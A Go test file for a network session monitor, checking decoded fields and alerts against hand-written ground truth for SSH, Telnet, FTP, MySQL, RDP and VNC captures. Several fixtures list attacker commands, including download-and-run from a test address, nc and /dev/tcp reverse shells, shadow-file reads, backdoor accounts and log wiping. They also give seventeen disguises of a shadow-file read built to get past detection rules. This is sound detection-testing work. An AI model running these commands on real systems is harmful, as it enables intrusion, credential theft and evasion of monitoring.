package main

import (
	"fmt"
	"sort"
	"strings"
	"testing"
)

// TestGroundTruth checks psmtap against what really happened when the
// captures were made (pcaps/README.md): which sessions, who was client and
// server, and the facts that are decoded today. Unlike the golden files, this
// table is written by hand from the ground truth, not from psmtap's output.
func TestGroundTruth(t *testing.T) {
	type want struct {
		proto, client, server string
		fields                map[string]string
	}
	truth := map[string][]want{
		"ssh-password-interactive.pcap": {{"ssh", "192.0.2.10:42012", "192.0.2.20:22", map[string]string{
			"ssh.version": "2", "ssh.client.software": "OpenSSH_9.2p1", "ssh.server.software": "OpenSSH_9.2p1", "psm.state": "closed",
			"ssh.client.hassh": "472b5de333ad665af5cbf10ff892c4df", "ssh.server.hassh": "425d29fe50d8e4f5e37efb6e24bcf660",
			"ssh.kex_alg": "sntrup761x25519-sha512", "ssh.host_key_alg": "ssh-ed25519", "ssh.cipher_alg": "chacha20-poly1305@openssh.com",
			"ssh.compression_alg": "none", "ssh.host_key.type": "ssh-ed25519",
			"ssh.host_key.fingerprint_sha256": "SHA256:yScOgOBHFgfDWHCRbXU5oFkZef6OyO2e5Scm5yUqbEk",
			"psm.login.success":               "true", "psm.login.attempts": "1", "psm.login.inferred": "true", "psm.kind": "interactive"}}},
		"telnet-login.pcap": {{"telnet", "192.0.2.10:41438", "192.0.2.20:23", map[string]string{"psm.state": "closed",
			"user.name": "alice", "psm.login.success": "true", "psm.login.attempts": "2", "psm.cleartext_credentials": "true",
			"psm.commands": list("id", "whoami", "exit"), "psm.kind": "interactive", "telnet.terminal_type": "XTERM",
			"telnet.window.cols": "80", "telnet.window.rows": "24"}}},
		"ftp-vsftpd.pcap": { // two control connections; the four passive data connections are not sessions
			{"ftp", "192.0.2.10:40362", "192.0.2.20:21", map[string]string{"user.name": "alice", "psm.login.success": "false",
				"psm.login.attempts": "1", "psm.cleartext_credentials": "true", "psm.commands": list("USER alice", "PASS ****", "QUIT"),
				"ftp.greeting": "psmtap test FTP server ready.", "ftp.replies": list("331", "530", "221")}},
			{"ftp", "192.0.2.10:36280", "192.0.2.20:21", map[string]string{"user.name": "alice", "psm.login.success": "true",
				"psm.login.attempts": "1", "psm.kind": "file_transfer",
				"psm.commands": list("USER alice", "PASS ****", "SYST", "FEAT", "TYPE I", "TYPE A", "PASV", "LIST", "TYPE I",
					"SIZE report.txt", "PASV", "RETR report.txt", "MDTM report.txt", "PASV", "STOR upload.txt", "DELE old.txt",
					"TYPE A", "PASV", "LIST", "QUIT"),
				"ftp.files": list("report.txt", "upload.txt", "old.txt"), "ftp.data.connections": "4"}},
		},
		"rlogin.pcap": {{"rlogin", "192.0.2.10:1023", "192.0.2.20:513", map[string]string{
			"rlogin.client_user": "alice", "rlogin.server_user": "alice", "user.name": "alice", "source.user.name": "alice", "rlogin.terminal_type": "xterm",
			"rlogin.terminal_speed": "38400", "rlogin.window.rows": "24", "rlogin.window.cols": "80",
			"psm.login.success": "true", "psm.commands": list("id", "pwd", "exit"), "psm.kind": "interactive"}}},
		"rsh.pcap": { // the stderr back-connections are not sessions of their own
			{"rsh", "192.0.2.10:1023", "192.0.2.20:514", map[string]string{"rsh.command": "id", "rsh.server_user": "alice",
				"psm.output_text": "uid=2001(alice) gid=2001(alice) groups=2001(alice)\n", "psm.login.success": "true"}},
			{"rsh", "192.0.2.10:1022", "192.0.2.20:514", map[string]string{"rsh.command": "ls /etc/hostname /nonexistent",
				"psm.output_text": "/etc/hostname\nls: cannot access '/nonexistent': No such file or directory\n", "rsh.stderr_port": "1021"}},
		},
		"ssh-exec-port2222.pcap": {{"ssh", "192.0.2.10:59970", "192.0.2.20:2222", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "exec",
			"ssh.host_key.fingerprint_sha256": "SHA256:yScOgOBHFgfDWHCRbXU5oFkZef6OyO2e5Scm5yUqbEk"}}},
		"telnet-port2323.pcap": {{"telnet", "192.0.2.10:43514", "192.0.2.20:2323", map[string]string{
			"user.name": "bob", "psm.login.success": "true", "psm.login.attempts": "1", "psm.commands": list("hostname", "exit")}}},
		"telnet-busybox.pcap": {{"telnet", "192.0.2.10:38878", "192.0.2.20:2324", map[string]string{
			"user.name": "alice", "psm.login.success": "true", "psm.login.attempts": "1",
			"psm.commands": list("echo hello", "stty size", "exit"), "telnet.window.cols": "100", "telnet.window.rows": "40", "telnet.resizes": "1"}}},
		"ftp-active.pcap": {{"ftp", "192.0.2.10:44232", "192.0.2.20:21", map[string]string{ // the two data connections are not sessions
			"user.name": "alice", "psm.login.success": "true", "ftp.files": list("report.txt"), "ftp.data.connections": "2",
			"psm.commands": list("USER alice", "PASS ****", "SYST", "FEAT", "TYPE I", "TYPE A", "PORT 192,0,2,10,215,163",
				"LIST", "TYPE I", "SIZE report.txt", "PORT 192,0,2,10,132,33", "RETR report.txt", "MDTM report.txt", "QUIT")}}},
		// The later SSH captures: login outcome and attempts as sshd logged
		// them, kind as the README describes the session ("" = no session ran).
		// MySQL/MariaDB: users, login outcomes and statements as pcaps/README.md lists them.
		"mysql-cli.pcap": {{"mysql", "192.0.2.10:47796", "192.0.2.20:3306", map[string]string{
			"user.name": "alice", "psm.login.success": "true", "psm.login.attempts": "1", "mysql.database": "shop",
			"mysql.server.version": "5.5.5-10.11.19-MariaDB-0+deb12u1", "mysql.server.connection_id": "3",
			"mysql.auth_plugin": "mysql_native_password", "mysql.client.program": "mysql", "mysql.client.name": "libmariadb",
			"mysql.errors": "1", "mysql.statements": "8",
			"psm.commands": list("CREATE TABLE items (id INT PRIMARY KEY, name VARCHAR(40), price INT)",
				"INSERT INTO items VALUES (1, 'apple', 3), (2, 'pear', 4), (3, 'plum', 5)", "UPDATE items SET price = price + 1",
				"DELETE FROM items WHERE id = 2", "SELECT id, name, price FROM items ORDER BY id", "SELECT * FROM no_such_table",
				"GRANT SELECT ON shop.items TO 'bob'@'%'", "DROP TABLE items")}}},
		"mysql-wrong-password.pcap": {{"mysql", "192.0.2.10:47806", "192.0.2.20:3306", map[string]string{
			"user.name": "alice", "psm.login.success": "false", "psm.login.attempts": "1", "psm.commands": "",
			"mysql.login_error": "Access denied for user 'alice'@'192.0.2.10' (using password: YES)"}}},
		"mysql-unknown-db.pcap": {{"mysql", "192.0.2.10:47816", "192.0.2.20:3306", map[string]string{
			"user.name": "alice", "psm.login.success": "false", "mysql.database": "nosuchdb",
			"mysql.login_error": "Unknown database 'nosuchdb'"}}},
		"mysql-prepared.pcap": {{"mysql", "192.0.2.10:34830", "192.0.2.20:3306", map[string]string{
			"user.name": "alice", "psm.login.success": "true", "mysql.prepared": "3", "mysql.executed": "4", "mysql.statements": "4",
			"psm.commands": list("SET NAMES 'utf8mb4'", "SET character_set_server = 'utf8mb4'",
				"SET collation_connection = 'utf8mb4_unicode_ci'", "SET collation_server = 'utf8mb4_unicode_ci'",
				"INSERT INTO orders (id, customer, total, placed) VALUES (?, ?, ?, ?)",
				"SELECT id, customer FROM orders WHERE total > ? ORDER BY id", "DELETE FROM orders WHERE id = ?")}}},
		"mysql-tls.pcap": {{"mysql", "192.0.2.10:34832", "192.0.2.20:3306", map[string]string{
			"mysql.tls": "true", "tls.version": "1.3", "tls.cipher": "TLS_AES_256_GCM_SHA384", "user.name": "", "psm.commands": ""}}},
		"mysql-compress.pcap": {{"mysql", "192.0.2.10:34848", "192.0.2.20:3306", map[string]string{
			"user.name": "alice", "psm.login.success": "true", "mysql.compression": "true",
			"psm.commands": list("SELECT customer, total FROM orders WHERE id = 2", "SHOW TABLES")}}},
		"mysql-multi-statement.pcap": {{"mysql", "192.0.2.10:57876", "192.0.2.20:3306", map[string]string{
			"user.name": "alice", "psm.login.success": "true", "mysql.statements": "1",
			"psm.commands": list("SELECT COUNT(*) FROM orders", "UPDATE orders SET total = total * 2 WHERE id = 1",
				"SELECT customer FROM orders WHERE id < 3")}}},
		"mysql-ed25519.pcap": {{"mysql", "192.0.2.10:57892", "192.0.2.20:3306", map[string]string{
			"user.name": "bob", "psm.login.success": "true", "mysql.client_auth_plugin": "mysql_native_password",
			"mysql.auth_plugin": "client_ed25519", "psm.commands": list("SELECT COUNT(*) FROM orders")}}},
		"ssh-wrong-password.pcap": {{"ssh", "192.0.2.10:43584", "192.0.2.20:22", map[string]string{
			"psm.login.success": "false", "psm.login.attempts": "1", "psm.kind": ""}}},
		"ssh-wrong-then-right.pcap": {{"ssh", "192.0.2.10:39126", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "4", "psm.kind": "interactive"}}},
		"ssh-publickey.pcap": {{"ssh", "192.0.2.10:39900", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "interactive"}}},
		"ssh-scp-upload.pcap": {{"ssh", "192.0.2.10:39914", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "file_transfer"}}},
		"ssh-scp-download.pcap": {{"ssh", "192.0.2.10:60142", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "file_transfer"}}},
		"ssh-sftp.pcap": {{"ssh", "192.0.2.10:60148", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "file_transfer"}}},
		"ssh-port-forward.pcap": {{"ssh", "192.0.2.10:52794", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "tunnel"}}},
		"ssh-compression.pcap": {{"ssh", "192.0.2.10:52806", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "interactive",
			"ssh.client.hassh": "3b6b038cb3eacc1b9d3ceebc71b8e07c", "ssh.compression_alg": "zlib@openssh.com"}}},
		"ssh-reverse-shell.pcap": {{"ssh", "192.0.2.10:41984", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "reverse"}}},
		"ssh-interactive-long.pcap": {{"ssh", "192.0.2.10:43454", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "interactive"}}},
		"ssh-dropbear.pcap": {{"ssh", "192.0.2.10:45694", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "exec", "ssh.server.software": "dropbear_2022.83",
			"ssh.server.hassh": "e1a0b5f8d334ec70fe937b2d5ff8d0b6", "ssh.host_key.fingerprint_sha256": "SHA256:tcjg0+Trk2yvpOFdyAOdQhh53VzSxwluFXFR2vMfvoo"}}},
		"ssh-paramiko.pcap": {{"ssh", "192.0.2.10:45700", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "exec",
			"ssh.client.hassh": "a704be057881f0b1d623cd263e477a8b", "ssh.cipher_alg": "aes128-ctr", "ssh.mac_alg": "hmac-sha2-256"}}},
		"ssh-libssh.pcap": {{"ssh", "192.0.2.10:45702", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "exec",
			"ssh.client.software": "libssh_0.10.6", "ssh.client.hassh": "f93d28ee0c77e2612b27491518d909f4", "ssh.kex_alg": "curve25519-sha256"}}},
		"http-on-port22.pcap": nil, // HTTP on port 22 is not SSH
		"rdp-xrdp-tls.pcap": {{"rdp", "192.0.2.10:48366", "192.0.2.20:3389", map[string]string{"psm.state": "reset",
			// The cookie is a claim, not a login: not user.name (docs/fields.md).
			"rdp.cookie": "alice", "user.name": "", "related.user": "alice", "rdp.requested_protocols": "ssl,hybrid", "rdp.selected_protocol": "ssl",
			"rdp.response_flags": "extended_client_data_supported", "rdp.result": "success", "tls.client.server_name": "192.0.2.20",
			"destination.domain": "", // the SNI is an address, not a domain
			"tls.version":        "1.3", "tls.cipher": "TLS_AES_256_GCM_SHA384"}}},
		// Standard RDP Security, FreeRDP with clipboard and a drive: client data in clear (xrdp log: keylayout 0x409, client psm-cli).
		"rdp-xrdp-rdpsec.pcap": {{"rdp", "192.0.2.10:55984", "192.0.2.20:3389", map[string]string{
			"rdp.cookie": "alice", "rdp.selected_protocol": "rdp", "rdp.client.name": "psm-cli", "rdp.client.desktop_width": "800",
			"rdp.client.desktop_height": "600", "rdp.client.color_depth": "16", "rdp.client.keyboard_layout_id": "1033",
			"rdp.channels": "rdpdr,rdpsnd,cliprdr,drdynvc", "rdp.encryption_level": "fips", "rdp.encryption_method": "fips"}}},
		// Wrong password over TLS 1.2: the certificate is in clear (openssl x509 -fingerprint -sha256 of the script's cert.pem).
		"rdp-wrong-password.pcap": {{"rdp", "192.0.2.10:53630", "192.0.2.20:3389", map[string]string{
			"rdp.cookie": "alice", "rdp.selected_protocol": "ssl", "tls.version": "1.2", "tls.client.server_name": "192.0.2.20",
			"tls.server.x509.subject.common_name": "psm-srv", "tls.server.x509.issuer.common_name": "psm-srv",
			"tls.server.subject": "CN=psm-srv", "tls.server.issuer": "CN=psm-srv", "tls.server.not_after": "2036-11-23T00:30:55Z",
			"tls.server.x509.serial_number": "184A453E123DC357017F24E18F65084350286E66", "tls.server.x509.not_after": "2036-11-23T00:30:55Z",
			"tls.server.hash.sha256": "219CB49389A4CC74657F716427A3DBD656F4418D52EE9F5AD1E24FA270FA982F"}}},
		// A client asking for Standard RDP Security only, xrdp requiring TLS: RDP_NEG_FAILURE 1.
		"rdp-neg-failure.pcap": {{"rdp", "192.0.2.10:52326", "192.0.2.20:3389", map[string]string{
			"rdp.cookie": "alice", "user.name": "", "related.user": "alice", "rdp.requested_protocols": "rdp", "rdp.result": "ssl_required_by_server"}}},
		// rdesktop 1.9 with Standard RDP Security, clipboard and a disk redirected; it asks for TLS|CredSSP, xrdp selects RDP.
		"rdp-rdesktop.pcap": {{"rdp", "192.0.2.10:55260", "192.0.2.20:3389", map[string]string{
			"rdp.cookie": "alice", "rdp.requested_protocols": "ssl,hybrid", "rdp.selected_protocol": "rdp", "rdp.client.name": "psm-cli",
			"rdp.client.desktop_width": "800", "rdp.client.color_depth": "16", "rdp.channels": "cliprdr,rdpsnd,snddbg,rdpdr,drdynvc",
			"rdp.encryption_method": "128bit", "rdp.encryption_level": "high", "rdp.certificate.type": "proprietary"}}},
		"ssh-exec-ipv6.pcap": {{"ssh", "[2001:db8::10]:47500", "[2001:db8::20]:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "exec"}}},
		// Commands for rules (inetd in its own PID and mount namespaces). The sudo password typed after
		// `sudo -l` is an elevation, not a login attempt.
		"telnet-suspicious.pcap": {{"telnet", "192.0.2.10:52816", "192.0.2.20:23", map[string]string{
			"user.name": "alice", "psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "interactive",
			"psm.commands": list("cat /etc/shadow", "sudo -l", "cat /etc/sudoers", "echo ssh-ed25519 AAAATEST >> ~/.ssh/authorized_keys",
				"useradd backdoor", "history -c", "unset HISTFILE", "rm -f ~/.bash_history", "curl -s http://192.0.2.10:8080/x.sh | sh",
				"wget -q http://192.0.2.10:8080/y -O /tmp/y; chmod +x /tmp/y", "iptables -F", "systemctl stop auditd", "setenforce 0",
				"crontab -l", "nc -e /bin/sh 192.0.2.10 4444", "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1", "exit")}}},
		// The commands of telnet-bypass are checked one by one in TestGroundTruthBypass.
		"telnet-bypass.pcap": {{"telnet", "192.0.2.10:57976", "192.0.2.20:23", map[string]string{
			"user.name": "alice", "psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "interactive"}}},
		"telnet-benign.pcap": {{"telnet", "192.0.2.10:43044", "192.0.2.20:23", map[string]string{
			"user.name": "alice", "psm.login.success": "true", "psm.login.attempts": "1",
			"psm.commands": list("ls -la", "df -h /home", "uptime", "cat /etc/hostname", "ps aux | head -5", "grep alice /etc/group", "exit")}}},
		"rlogin-suspicious.pcap": {{"rlogin", "192.0.2.10:1023", "192.0.2.20:513", map[string]string{
			"rlogin.client_user": "alice", "rlogin.server_user": "alice", "user.name": "alice", "psm.login.success": "true",
			"psm.commands": list("cat /etc/shadow", "history -c", "exit"), "psm.kind": "interactive"}}},
		// More for rules: the test account named admin (not root) over Telnet, FTP of /etc/passwd and a
		// script, OpenSSH with 3des-cbc (sshd log: 3des-cbc with umac-64-etm both ways).
		"telnet-admin.pcap": {{"telnet", "192.0.2.10:38026", "192.0.2.20:23", map[string]string{
			"user.name": "admin", "psm.login.success": "true", "psm.login.attempts": "1", "psm.cleartext_credentials": "true",
			"psm.kind": "interactive", "psm.state": "closed",
			"psm.commands": list("crontab -r", "echo '* * * * * id' | crontab -", "rm -f /var/log/syslog",
				"truncate -s 0 /var/log/auth.log", "journalctl --vacuum-time=1s", "exit")}}},
		"ftp-sensitive.pcap": {{"ftp", "192.0.2.10:42106", "192.0.2.20:21", map[string]string{ // two data connections, not sessions
			"user.name": "alice", "psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "file_transfer",
			"psm.commands": list("USER alice", "PASS ****", "SYST", "FEAT", "TYPE I", "SIZE /etc/passwd", "PASV", "RETR /etc/passwd",
				"MDTM /etc/passwd", "PASV", "STOR deploy.sh", "QUIT"),
			"ftp.files": list("/etc/passwd", "deploy.sh"), "ftp.data.connections": "2", "ftp.data.bytes": "1100"}}},
		"ssh-weak-cipher.pcap": {{"ssh", "192.0.2.10:39720", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "interactive", "psm.state": "closed",
			"ssh.client.cipher_algs": "3des-cbc", "ssh.cipher_alg": "3des-cbc", "ssh.mac_alg": "umac-64-etm@openssh.com",
			"ssh.kex_alg": "sntrup761x25519-sha512", "ssh.host_key_alg": "ssh-ed25519",
			"ssh.host_key.fingerprint_sha256": "SHA256:fWRjSnTUUXn+mPU1ImzISLK554odjg7aTzN2w7zRJb4"}}},
		// Detection of real traffic: commands typed without pauses, banner grabs, sessions through proxies
		// (the destination is the proxy; psm.proxy says what the client asked it for).
		"ssh-fast-typing.pcap": {{"ssh", "192.0.2.10:53874", "192.0.2.20:22", map[string]string{
			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "interactive", "psm.state": "closed",
			"ssh.host_key.fingerprint_sha256": "SHA256:pRUwagNB2Q7pWroVoDJIvSDZ7kTCf0mEbLvvo3cX5dA"}}},
		"ssh-banner-grab.pcap": {
			{"ssh", "192.0.2.10:49216", "192.0.2.20:22", map[string]string{"psm.state": "closed", "psm.login.success": "",
				"ssh.server.software": "OpenSSH_9.2p1", "ssh.client.banner": "", "psm.anomalies": list("ssh.one_side_only")}},
			{"ssh", "192.0.2.10:49218", "192.0.2.20:22", map[string]string{"psm.state": "reset",
				"ssh.server.software": "OpenSSH_9.2p1", "ssh.client.banner": "", "psm.anomalies": list("ssh.one_side_only")}},
			{"ssh", "192.0.2.10:49224", "192.0.2.20:22", map[string]string{"psm.state": "reset",
				"ssh.server.software": "OpenSSH_9.2p1", "ssh.client.banner": "", "psm.anomalies": list("ssh.one_side_only")}},
		},
		"ssh-socks5.pcap": {{"ssh", "192.0.2.10:43166", "192.0.2.20:1080", map[string]string{
			"psm.proxy.type": "socks5", "psm.proxy.target": "psm-srv:22", "psm.login.success": "true", "psm.login.attempts": "1",
			"psm.kind": "interactive", "ssh.client.software": "OpenSSH_9.2p1", "ssh.server.software": "OpenSSH_9.2p1",
			"ssh.host_key.fingerprint_sha256": "SHA256:pRUwagNB2Q7pWroVoDJIvSDZ7kTCf0mEbLvvo3cX5dA"}}},
		"ssh-http-connect.pcap": {{"ssh", "192.0.2.10:39656", "192.0.2.20:8888", map[string]string{
			"psm.proxy.type": "http_connect", "psm.proxy.target": "psm-srv:22", "psm.login.success": "true", "psm.login.attempts": "1",
			"psm.kind": "interactive", "ssh.host_key.fingerprint_sha256": "SHA256:pRUwagNB2Q7pWroVoDJIvSDZ7kTCf0mEbLvvo3cX5dA"}}},
		"telnet-socks4.pcap": {{"telnet", "192.0.2.10:45264", "192.0.2.20:1080", map[string]string{
			"psm.proxy.type": "socks4", "psm.proxy.target": "192.0.2.20:23", "psm.proxy.user": "anonymous",
			"user.name": "bob", "psm.login.success": "true", "psm.login.attempts": "1", "psm.commands": list("hostname", "exit"),
			"telnet.terminal_type": "XTERM"}}},
		"telnet-http-connect.pcap": {{"telnet", "192.0.2.10:56414", "192.0.2.20:8888", map[string]string{
			"psm.proxy.type": "http_connect", "psm.proxy.target": "psm-srv:23",
			"user.name": "bob", "psm.login.success": "true", "psm.login.attempts": "1", "psm.commands": list("hostname", "exit")}}},
		// TigerVNC 1.12 viewer to Xvnc, VNC authentication, the standard session (pcaps/README.md, VNC).
		"vnc-vncauth.pcap": {{"vnc", "192.0.2.10:44136", "192.0.2.20:5900", map[string]string{"psm.state": "closed",
			"vnc.version.server": "3.8", "vnc.version.client": "3.8", "vnc.security.offered": "vnc-auth", "vnc.security.chosen": "vnc-auth",
			"vnc.auth.outcome": "success", "vnc.shared": "false", "vnc.desktop.name": "psm-srv", "vnc.desktop.width": "640",
			"vnc.desktop.height": "480", "psm.login.success": "true", "psm.login.attempts": "1", "user.name": "",
			"psm.commands": list("id", "echo hello vnc", "hostname"), "vnc.pointer.clicks": "2", "vnc.pointer.buttons": list("left", "middle"),
			"vnc.pointer.positions": list("left@320,240", "middle@200,300"), "vnc.clipboard.to_server": "1", "psm.kind": "interactive"}}},
		"vnc-wrong-password.pcap": {{"vnc", "192.0.2.10:57048", "192.0.2.20:5900", map[string]string{"vnc.security.chosen": "vnc-auth",
			"vnc.auth.outcome": "failure", "vnc.auth.reason": "Authentication failure", "psm.login.success": "false", "psm.login.attempts": "1"}}},
		"vnc-none.pcap": {{"vnc", "192.0.2.10:52044", "192.0.2.20:5900", map[string]string{"vnc.security.chosen": "none", "vnc.auth.method": "none",
			"psm.login.success": "true", "psm.commands": list("id", "echo hello vnc", "hostname"), "vnc.clipboard.to_server": "1"}}},
		// VeNCrypt TLSVnc: the rest is TLS 1.2 with anonymous ECDH (pcaps/README.md).
		"vnc-vencrypt.pcap": {{"vnc", "192.0.2.10:54130", "192.0.2.20:5900", map[string]string{"psm.state": "reset",
			"vnc.security.chosen": "vencrypt", "vnc.security.subtype": "tls-vnc", "vnc.security.vencrypt_version": "0.2", "vnc.stopped": "tls",
			"vnc.auth.outcome": "unknown", "tls.version": "1.2", "tls.cipher": "0xC019", "psm.commands": ""}}},
		"vnc-rfb33.pcap": {{"vnc", "192.0.2.10:53892", "192.0.2.20:5900", map[string]string{"vnc.version.client": "3.3", "vnc.version.server": "3.3",
			"vnc.security.offered": "vnc-auth", "psm.login.success": "true", "psm.commands": list("id", "echo hello vnc", "hostname")}}},
		"vnc-rfb37.pcap": {{"vnc", "192.0.2.10:57070", "192.0.2.20:5900", map[string]string{"vnc.version.client": "3.7", "vnc.version.server": "3.8",
			"vnc.security.chosen": "none", "psm.login.success": "true", "psm.commands": list("echo rfb 3.7")}}},
		// Typo erased by four BackSpaces, Ctrl-C during sleep, Tab completion (pcaps/README.md, vnc-keys).
		"vnc-keys.pcap": {{"vnc", "192.0.2.10:52212", "192.0.2.20:5900", map[string]string{"vnc.auth.outcome": "success",
			"psm.commands": list("echo fixed", "sleep 30", "ls /us<Tab>"), "vnc.pointer.clicks": "1", "vnc.pointer.positions": list("left@320,240")}}},
		// telnet-login.pcap picked up at its first command (make edge-pcaps): no negotiation, no login seen
		"edge/telnet-midstream-noiac.pcap": {{"telnet", "192.0.2.10:41438", "192.0.2.20:23", map[string]string{
			"psm.state": "partial", "psm.commands": list("id", "whoami", "exit"), "user.name": "",
			"psm.anomalies": list("telnet.detected_by_port_and_shape")}}},
	}
	for file, sessions := range truth {
		t.Run(file, func(t *testing.T) {
			recs := records(t, run(t, "read", "pcaps/"+file).stdout)
			if len(recs) != len(sessions) {
				t.Fatalf("%d sessions, want %d", len(recs), len(sessions))
			}
			for i, w := range sessions {
				r := recs[i]
				client := hostPort(str(r, "source.ip"), str(r, "source.port"))
				server := hostPort(str(r, "destination.ip"), str(r, "destination.port"))
				if str(r, "network.protocol") != w.proto || client != w.client || server != w.server {
					t.Errorf("session %d: %s %s -> %s, want %s %s -> %s", i, str(r, "network.protocol"), client, server, w.proto, w.client, w.server)
				}
				for k, v := range w.fields {
					if got := str(r, k); got != v {
						t.Errorf("session %d: %s = %q, want %q", i, k, got, v)
					}
				}
			}
		})
	}
}

// TestGroundTruthBypass is the bypass suite: `cat /etc/shadow` typed in
// seventeen disguises (telnet-bypass.pcap, pcaps/README.md). Line by line,
// psmtap's command is the one bash ran (after editing; the shell syntax as
// typed), and the shipped rule on /etc/shadow fires on every one of them.
func TestGroundTruthBypass(t *testing.T) {
	want := map[int]string{
		0:  "cat /etc/shadow", // typo erased with BS BS
		1:  "cat /etc/shadow", // Left, Delete, Left, insert
		2:  "cat /etc/shadow", // "/etc/shadow", Ctrl-A, "cat ", Ctrl-E: resolved by the echo
		3:  "cat /etc/shadow", // Ctrl-U, Ctrl-W
		4:  "cat /etc/shadow", // TAB completes "dow" (ambiguous: shadow, shadow-)
		5:  "cat /etc/shadow", // TAB completes "c/"
		6:  "cat /etc/shadow", // bracketed paste
		7:  "cat /etc/shadow", // "cat /et<TAB>shadow<CR>" in one segment: the echo comes after the Enter
		8:  "id; cat /etc/shadow",
		9:  "true && cat /etc/shadow",
		10: "cat   /etc/shadow",
		11: `cat "/etc/shadow"`,
		12: "cat /etc/'sha'dow",
		13: `c\at /etc/shadow`,
		14: "/bin/cat /etc/shadow",
		15: "cat /etc//shadow",
		16: "cat /etc/./shadow",
		17: "exit",
	}
	recs := records(t, run(t, "read", "pcaps/telnet-bypass.pcap").stdout)
	if len(recs) != 1 {
		t.Fatalf("%d sessions, want 1", len(recs))
	}
	cmds, _ := field(recs[0], "psm.commands").([]any)
	if len(cmds) != 18 {
		t.Fatalf("%d commands, want 18: %q", len(cmds), cmds)
	}
	for i, w := range want {
		if cmds[i] != w {
			t.Errorf("command %d = %q, want %q", i, cmds[i], w)
		}
	}
	// The rule fires on every disguise: one alert per command event but exit.
	docs := records(t, run(t, "read", "--events", "--rules", "builtin", "pcaps/telnet-bypass.pcap").stdout)
	alerted := map[string]bool{}
	for _, d := range docs {
		if str(d, "event.kind") == "alert" && str(d, "rule.name") == "Password hashes read or changed (/etc/shadow)" {
			alerted[str(d, "psm.alert.trigger_id")] = true
		}
	}
	n := 0
	for _, d := range docs {
		if str(d, "event.action") != "command" || str(d, "event.kind") != "event" {
			continue
		}
		if line := str(d, "process.command_line"); line != "exit" {
			n++
			if !alerted[str(d, "event.id")] {
				t.Errorf("no alert for %q (%s)", line, str(d, "psm.command.normalized"))
			}
		}
	}
	if n != 17 {
		t.Errorf("%d disguised commands, want 17", n)
	}
}

// TestGroundTruthAlerts checks that the shipped rules made for these
// captures fire on them, on the command, file or login that the ground truth
// (pcaps/README.md) says should trip them, and that nothing else fires. All
// three were made at 00:17 UTC, so their logins are also outside working hours.
func TestGroundTruthAlerts(t *testing.T) {
	truth := map[string][]string{
		"telnet-admin.pcap": {
			"Cleartext administration protocol in use | admin",
			"Login outside working hours | admin",
			"Scheduled task created or changed | admin | crontab -r",
			"Scheduled task created or changed | admin | echo '* * * * * id' | crontab -",
			"System logs deleted or emptied | admin | journalctl --vacuum-time=1s",
			"System logs deleted or emptied | admin | rm -f /var/log/syslog",
			"System logs deleted or emptied | admin | truncate -s 0 /var/log/auth.log",
			"root or admin account logged in over a cleartext protocol | admin",
		},
		"ftp-sensitive.pcap": {
			"Cleartext administration protocol in use | alice",
			"Login outside working hours | alice",
			"Script or program uploaded over FTP | alice | deploy.sh",
			"Sensitive file downloaded over FTP | alice | /etc/passwd",
		},
		"ssh-weak-cipher.pcap": { // the weak cipher is settled before the login: no user yet
			"Login outside working hours",
			"SSH with weak algorithms or protocol version 1",
		},
	}
	for file, want := range truth {
		t.Run(file, func(t *testing.T) {
			var got []string
			for _, r := range records(t, run(t, "read", "--events", "--rules", "builtin", "pcaps/"+file).stdout) {
				if str(r, "event.dataset") != "psmtap.alert" {
					continue
				}
				parts := []string{str(r, "rule.name")}
				for _, f := range []string{"user.name", "process.command_line", "file.path"} {
					if v := str(r, f); v != "" {
						parts = append(parts, v)
					}
				}
				got = append(got, strings.Join(parts, " | "))
			}
			sort.Strings(got)
			if strings.Join(got, "\n") != strings.Join(want, "\n") {
				t.Errorf("alerts:\n got  %q\n want %q", got, want)
			}
		})
	}
}

func hostPort(ip, port string) string {
	for _, c := range ip {
		if c == ':' {
			return fmt.Sprintf("[%s]:%s", ip, port)
		}
	}
	return ip + ":" + port
}

// list is how str() prints a JSON array: its elements joined by commas.
func list(elems ...string) string { return strings.Join(elems, ",") }
